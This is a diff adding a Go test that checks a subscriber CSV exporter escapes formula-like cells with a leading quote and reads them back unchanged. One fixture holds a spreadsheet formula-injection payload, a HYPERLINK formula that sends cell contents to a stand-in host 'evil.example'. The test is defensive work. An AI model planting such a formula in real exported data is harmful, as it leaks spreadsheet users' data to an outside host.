@@ -275,3 +275,51 @@ func TestImportCSV(t *testing.T) {
 		t.Error("no error for a file without an email column")
 	}
 }
+
+// TestCSVFormulaCells checks that cells a spreadsheet would run as a
+// formula are written with a leading quote, and that reading the file
+// back gives the stored values exactly.
+func TestCSVFormulaCells(t *testing.T) {
+	ctx := context.Background()
+	subs := []*subscribers.Subscriber{
+		{Email: "eq@example.com", Name: `=HYPERLINK("http://evil.example/?"&A1,"Click")`, Tags: []string{"=1+1", "ok"}, Status: subscribers.Active},
+		{Email: "plus@example.com", Name: "+44 20 7946 0000", Tags: []string{"+tag"}, Status: subscribers.Active},
+		{Email: "minus@example.com", Name: "-2+3", Tags: []string{"-x"}, Status: subscribers.Active},
+		{Email: "at@example.com", Name: "@SUM(A1:A9)", Tags: []string{"@home"}, Status: subscribers.Active},
+		{Email: "quoted@example.com", Name: "'=already quoted", Tags: []string{"''+twice"}, Status: subscribers.Active},
+		{Email: "plain@example.com", Name: "O'Brien", Tags: []string{"'quote", "mid=dle"}, Status: subscribers.Active},
+	}
+	src := storetest.SQLite(t)
+	for _, s := range subs {
+		if err := src.Create(ctx, s, "test"); err != nil {
+			t.Fatal(err)
+		}
+	}
+	var buf bytes.Buffer
+	w := subscribers.NewCSVWriter(&buf)
+	if err := src.List(ctx, subscribers.Filter{}, w.Write); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	want := "email,name,digests,tags,timezone,status\n" +
+		`eq@example.com,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",,'=1+1;ok,,active` + "\n" +
+		"plus@example.com,'+44 20 7946 0000,,'+tag,,active\n" +
+		"minus@example.com,'-2+3,,'-x,,active\n" +
+		"at@example.com,'@SUM(A1:A9),,'@home,,active\n" +
+		"quoted@example.com,''=already quoted,,'''+twice,,active\n" +
+		"plain@example.com,O'Brien,,'quote;mid=dle,,active\n"
+	if diff := cmp.Diff(want, buf.String()); diff != "" {
+		t.Errorf("export (-want +got):\n%s", diff)
+	}
+	rows, rejected := readAll(t, buf.String(), 10)
+	if len(rejected) != 0 || len(rows) != len(subs) {
+		t.Fatalf("read back %d rows, rejected %v", len(rows), rejected)
+	}
+	for i, r := range rows {
+		if r.Name != subs[i].Name || !cmp.Equal(r.Tags, subs[i].Tags) {
+			t.Errorf("row %d read back as %q %q, want %q %q", i, r.Name, r.Tags, subs[i].Name, subs[i].Tags)
+		}
+	}
+}
